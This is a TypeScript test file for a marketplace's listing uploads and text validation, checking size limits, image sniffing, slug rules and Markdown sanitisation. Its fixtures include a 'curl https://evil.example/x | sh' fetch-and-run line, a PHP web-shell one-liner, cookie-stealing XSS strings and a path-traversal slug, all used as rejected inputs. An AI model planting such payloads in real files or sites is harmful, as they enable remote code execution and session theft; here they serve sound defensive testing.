import { sql } from 'drizzle-orm'
import { beforeAll, describe, expect, it } from 'vitest'
import { db, queryRows } from '#db/client.server.ts'
import { createPartner } from '#tests/factories/index.ts'
import { DomainError } from '#app/utils/errors.ts'
import { sniffImage } from '#app/features/listings/images.server.ts'
import { createListing, getListingForOwner } from '#app/features/listings/listings.server.ts'
import { updateOwnProfile } from '#app/features/listings/profiles.server.ts'
import { parseUploadForm } from '#app/features/listings/upload.server.ts'
import { listingInput, pngImage, useTempStorage, vendorWithCategories } from '#app/features/listings/test-helpers.ts'

const store = useTempStorage()
let ctx: Awaited<ReturnType<typeof vendorWithCategories>>
let partner: Awaited<ReturnType<typeof createPartner>>

beforeAll(async () => {
  ctx = await vendorWithCategories()
  partner = await createPartner({ name: 'Careful Partner' })
})

const input = (o: Record<string, unknown> = {}) => listingInput({ categoryIds: [ctx.categories.saas.id], ...o })

async function refusal(p: Promise<unknown>) {
  const e = await p.then(
    () => null,
    (x: unknown) => x,
  )
  expect(e, 'expected a DomainError').toBeInstanceOf(DomainError)
  return e as DomainError
}

async function counts() {
  const [row] = await queryRows<{ listings: number; versions: number; media: number; events: number }>(
    db,
    sql`select (select count(*)::int from listings) as listings, (select count(*)::int from listing_versions) as versions,
               (select count(*)::int from listing_media) as media, (select count(*)::int from domain_events) as events`,
  )
  return { ...row!, files: store.files().length }
}

/** A multipart body streamed in 64 KB chunks; `pulled()` says how much the parser read. */
function streamingUpload(fileBytes: number, { declareLength }: { declareLength: boolean }) {
  const boundary = '----pe-test-boundary'
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nBig one\r\n--${boundary}\r\nContent-Disposition: form-data; name="screenshots"; filename="huge.png"\r\nContent-Type: image/png\r\n\r\n`,
  )
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`)
  const total = head.length + fileBytes + tail.length
  let sent = 0
  let fileSent = 0
  const chunk = Buffer.alloc(64 * 1024, 0x41)
  const body = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent === 0) {
        controller.enqueue(head)
        sent += head.length
        return
      }
      if (fileSent < fileBytes) {
        const n = Math.min(chunk.length, fileBytes - fileSent)
        controller.enqueue(chunk.subarray(0, n))
        fileSent += n
        sent += n
        return
      }
      controller.enqueue(tail)
      sent += tail.length
      controller.close()
    },
  })
  const headers: Record<string, string> = { 'Content-Type': `multipart/form-data; boundary=${boundary}` }
  if (declareLength) headers['Content-Length'] = String(total)
  const request = new Request('http://localhost/manage/listings/new', { method: 'POST', body, headers, duplex: 'half' } as RequestInit)
  return { request, pulled: () => sent }
}

describe('uploads', () => {
  it('refuses a declared 20 MB upload before reading its body', async () => {
    const up = streamingUpload(20 * 1024 * 1024, { declareLength: true })
    const e = await refusal(parseUploadForm(up.request, ['logo', 'screenshots']))
    expect(e.message).toMatch(/too large \(20\.0 MB\)/)
    // The stream may have been primed with its first (header) chunk; none of the file was read.
    expect(up.pulled()).toBeLessThan(1024)
  })

  it('stops reading a 20 MB file sent without a length as soon as it passes 2 MB', async () => {
    const up = streamingUpload(20 * 1024 * 1024, { declareLength: false })
    const e = await refusal(parseUploadForm(up.request, ['logo', 'screenshots']))
    expect(e.message).toMatch(/"huge\.png" is larger than 2 MB/)
    expect(up.pulled()).toBeLessThan(3 * 1024 * 1024)
  })

  it('refuses a .png that is really a script, writing nothing', async () => {
    const before = await counts()
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n<script>alert(1)</script>\n')
    expect(sniffImage(script)).toBeNull()
    const e = await refusal(
      createListing(partner.admin, input({ slug: 'script-png' }), {
        logo: { filename: 'logo.png', data: await pngImage(300, 300) },
        screenshots: [{ filename: 'screenshot.png', data: script }],
      }),
    )
    expect(e.code).toBe('invalid')
    expect(e.message).toMatch(/Screenshot 1 \(screenshot\.png\) is not a PNG, JPEG or WebP image/)
    expect(await counts()).toEqual(before)
  })

  it('refuses a PNG header glued to garbage, and an image over 2 MB', async () => {
    const before = await counts()
    const fake = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('<?php system($_GET["c"]); ?>')])
    expect((await refusal(createListing(partner.admin, input({ slug: 'fake-png' }), { logo: { filename: 'x.png', data: fake } }))).message).toMatch(/could not be read as an image/)
    const big = Buffer.alloc(2 * 1024 * 1024 + 1, 1)
    big.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
    expect((await refusal(createListing(partner.admin, input({ slug: 'big-png' }), { logo: { filename: 'big.png', data: big } }))).message).toMatch(/larger than 2 MB/)
    expect((await refusal(updateOwnProfile(partner.admin, { tagline: 'x' }, { filename: 'logo.png', data: fake }))).code).toBe('invalid')
    expect(await counts()).toEqual(before)
  })

  it('refuses a seventh screenshot', async () => {
    const shot = { filename: 's.png', data: await pngImage(400, 300) }
    const e = await refusal(createListing(partner.admin, input({ slug: 'seven-shots' }), { screenshots: Array.from({ length: 7 }, () => shot) }))
    expect(e.fieldErrors?.screenshots?.[0]).toMatch(/At most 6/)
  })

  it('re-encodes JPEG and WebP uploads to WebP by content, whatever the file is called', async () => {
    const sharp = (await import('sharp')).default
    const jpeg = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#228833' } })
      .jpeg()
      .toBuffer()
    const webp = await sharp({ create: { width: 2400, height: 1600, channels: 3, background: '#882233' } })
      .webp()
      .toBuffer()
    const created = await createListing(partner.admin, input({ slug: 'real-images' }), {
      screenshots: [
        { filename: 'photo.gif', data: jpeg },
        { filename: 'wide.webp', data: webp },
      ],
    })
    const view = await getListingForOwner(partner.admin, created.id)
    expect(view.draft!.screenshots.map((s) => [s.width, s.height])).toEqual([
      [800, 600],
      [1500, 1000],
    ])
    expect(view.draft!.screenshots.every((s) => s.key.endsWith('.webp'))).toBe(true)
  })
})

describe('text input', () => {
  it('refuses a 10,000-character title with a field message, writing nothing', async () => {
    const before = await counts()
    const e = await refusal(createListing(partner.admin, input({ title: 'x'.repeat(10_000) })))
    expect(e.code).toBe('invalid')
    expect(e.fieldErrors?.title?.[0]).toMatch(/90 characters or fewer/)
    expect(await counts()).toEqual(before)
  })

  it('refuses a duplicate slug with a field message, writing nothing', async () => {
    await createListing(partner.admin, input({ slug: 'taken-slug' }))
    const other = await createPartner({ name: 'Copycat Partner' })
    const before = await counts()
    const e = await refusal(createListing(other.admin, input({ slug: 'taken-slug' })))
    expect(e.code).toBe('conflict')
    expect(e.fieldErrors?.slug?.[0]).toMatch(/taken/)
    expect(await counts()).toEqual(before)
    // Reserved and malformed slugs are refused too.
    expect((await refusal(createListing(partner.admin, input({ slug: 'new' })))).fieldErrors?.slug?.[0]).toMatch(/reserved/)
    expect((await refusal(createListing(partner.admin, input({ slug: '../../etc' })))).fieldErrors?.slug?.[0]).toMatch(/lowercase/)
  })

  it('two partners racing for the same slug: one wins, the other gets a clear conflict', async () => {
    const a = await createPartner({ name: 'Racer A' })
    const results = await Promise.allSettled([createListing(partner.admin, input({ slug: 'race-slug' })), createListing(a.admin, input({ slug: 'race-slug' }))])
    expect(results.filter((r) => r.status === 'fulfilled')).toHaveLength(1)
    const lost = results.find((r) => r.status === 'rejected') as PromiseRejectedResult
    expect((lost.reason as DomainError).code).toBe('conflict')
  })

  it('keeps Markdown with <script> and javascript: links harmless', async () => {
    const created = await createListing(
      partner.admin,
      input({ slug: 'xss-attempt', body: 'Hi <script>alert(1)</script> [click](javascript:alert(document.cookie)) <a href="#" onmouseover="x()">hover</a>' }),
    )
    const view = await getListingForOwner(partner.admin, created.id)
    expect(view.draft!.bodyHtml).not.toMatch(/<script|javascript:|onmouseover/i)
    expect(view.draft!.bodyHtml).toContain('hover')
  })

  it('refuses unknown categories, kinds and regions with messages', async () => {
    expect((await refusal(createListing(partner.admin, input({ categoryIds: ['nope'] })))).fieldErrors?.categoryIds).toBeTruthy()
    expect((await refusal(createListing(partner.admin, input({ categoryIds: [] })))).fieldErrors?.categoryIds?.[0]).toMatch(/at least one/)
    expect((await refusal(createListing(partner.admin, input({ kind: 'malware' })))).fieldErrors?.kind?.[0]).toMatch(/kind/)
    expect((await refusal(createListing(partner.admin, input({ regions: ['MARS'] })))).fieldErrors?.['regions.0']).toBeTruthy()
  })
})
